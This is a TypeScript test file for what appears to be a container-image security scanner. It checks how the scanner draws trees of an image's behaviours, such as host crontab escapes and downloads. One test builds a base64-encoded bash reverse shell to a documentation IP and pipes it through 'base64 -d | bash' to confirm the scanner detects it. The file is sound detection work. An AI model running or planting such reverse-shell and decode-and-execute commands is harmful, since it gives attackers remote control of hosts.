import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../grammar-files.ts';
import { sampleReport } from '../testing/sample-report.ts';
import { reportOf } from '../testing/scene.ts';
import type { ImageReport } from './report.ts';
import { type StoryNode, storyBranches } from './story-tree.ts';

beforeAll(() => useGrammarFiles());

/** The tree as indented lines. */
function drawn(nodes: readonly StoryNode[], depth = 0): string[] {
  return nodes.flatMap((node) => [
    `${'  '.repeat(depth)}${node.text} [${[node.place, node.severity ?? '-', ...node.attack].join(' ')}]`,
    ...drawn(node.children, depth + 1),
  ]);
}

test('effects hang below what led to them, marked with the findings that name them', () => {
  const branches = storyBranches(sampleReport());
  expect(branches.map(({ start, children }) => [start.label, ...drawn(children)])).toEqual([
    [
      'ENTRYPOINT /bin/sh /run.sh',
      "adds a job to the HOST's crontab, through /mnt/etc (every minute) [run.sh:4 malicious T1053.003 T1611]",
      '  hands an interactive bash to 192.0.2.44:8443 (reverse shell) [run.sh:4 suspicious T1059.004]',
    ],
    ['HEALTHCHECK /usr/bin/probe'],
    ['cron: @daily root /opt/x', 'downloads http://‹$HOST›/x [x:1 -]'],
  ]);
});

describe('quiet effects', () => {
  const withEffects = (effects: ImageReport['story']['effects']): ImageReport => {
    const report = sampleReport({ findings: [] });
    return { ...report, story: { ...report.story, effects } };
  };
  const write = { id: 9, kind: 'write', stage: 0, line: 5, path: ['/tmp/x'] };

  test('are left out unless asked for, or unless they land on the host', () => {
    const texts = (report: ImageReport, all?: boolean) => drawn(storyBranches(report, all)[0]?.children ?? []);
    expect(texts(withEffects([write]))).toEqual([]);
    expect(texts(withEffects([write]), true)).toEqual(['writes /tmp/x [run.sh:5 -]']);
    expect(texts(withEffects([{ ...write, outside: '/mnt' }]))).toEqual([
      'writes /tmp/x — on the HOST, through /mnt [run.sh:5 -]',
    ]);
  });

  test('what a quiet effect led to stands in its place', () => {
    const run = { id: 0, kind: 'run', stage: 0, line: 4, what: ['sh'], from: 'stdin', ran: 1 };
    const connect = { id: 1, kind: 'connect', stage: 1, line: 1, to: { host: ['192.0.2.1'], protocol: 'tcp' } };
    const [branch] = storyBranches(withEffects([run, connect]));
    expect(drawn(branch?.children ?? [])).toEqual(['connects to 192.0.2.1 [run.sh:4 -]']);
  });

  test('how a job is planted is not said beside the job', () => {
    const job = { id: 0, kind: 'schedule', stage: 0, command: 3, line: 4, table: ['/etc/crontab'], job: ['x'] };
    const append = { id: 1, kind: 'append', stage: 0, command: 3, line: 4, path: ['/etc/crontab'], outside: '/mnt' };
    const texts = drawn(storyBranches(withEffects([append, { ...job, outside: '/mnt' }]))[0]?.children ?? []);
    expect(texts).toEqual(["adds a job to the HOST's crontab, through /mnt: x [run.sh:4 -]"]);
  });

  test('what follows on the host is not said to be there again', () => {
    const job = {
      id: 0,
      kind: 'schedule',
      stage: 0,
      line: 4,
      table: ['/m/crontab'],
      job: ['x'],
      ran: 1,
      outside: '/m',
    };
    const fetch = { id: 1, kind: 'fetch', stage: 1, line: 1, url: ['http://a.invalid/'], tool: 'curl', outside: '/m' };
    expect(drawn(storyBranches(withEffects([job, fetch]))[0]?.children ?? [])).toEqual([
      "adds a job to the HOST's crontab, through /m [run.sh:4 -]",
      '  downloads http://a.invalid/ [run.sh:4 -]',
    ]);
  });

  test('the same thing twice on a line is said once', () => {
    const fetch = { id: 0, kind: 'fetch', stage: 0, line: 4, url: ['http://a.invalid/'], tool: 'curl' };
    expect(storyBranches(withEffects([fetch, { ...fetch, id: 1 }]))[0]?.children).toHaveLength(1);
  });
});

test('stages that lead into each other end somewhere', () => {
  const report = sampleReport();
  const stages = report.story.stages.map((stage) => ({ ...stage, parent: stage.id === 0 ? 1 : 0 }));
  expect(() => storyBranches({ ...report, story: { ...report.story, stages } }, true)).not.toThrow();
});

test('a real story: a decoded reverse shell below the command that decoded it', async () => {
  const hidden = Buffer.from('bash -i >& /dev/tcp/192.0.2.44/8443 0>&1').toString('base64');
  const report = await reportOf({
    entrypoint: ['/bin/sh', '/run.sh'],
    files: { '/run.sh': `#!/bin/sh\necho ${hidden} | base64 -d | bash\n` },
  });
  const lines = storyBranches(report).flatMap(({ children }) => drawn(children));
  expect(lines.join('\n')).toMatch(
    /hands an interactive \S*bash to 192\.0\.2\.44:8443 \(reverse shell\) \[decoded:1 malicious/,
  );
});
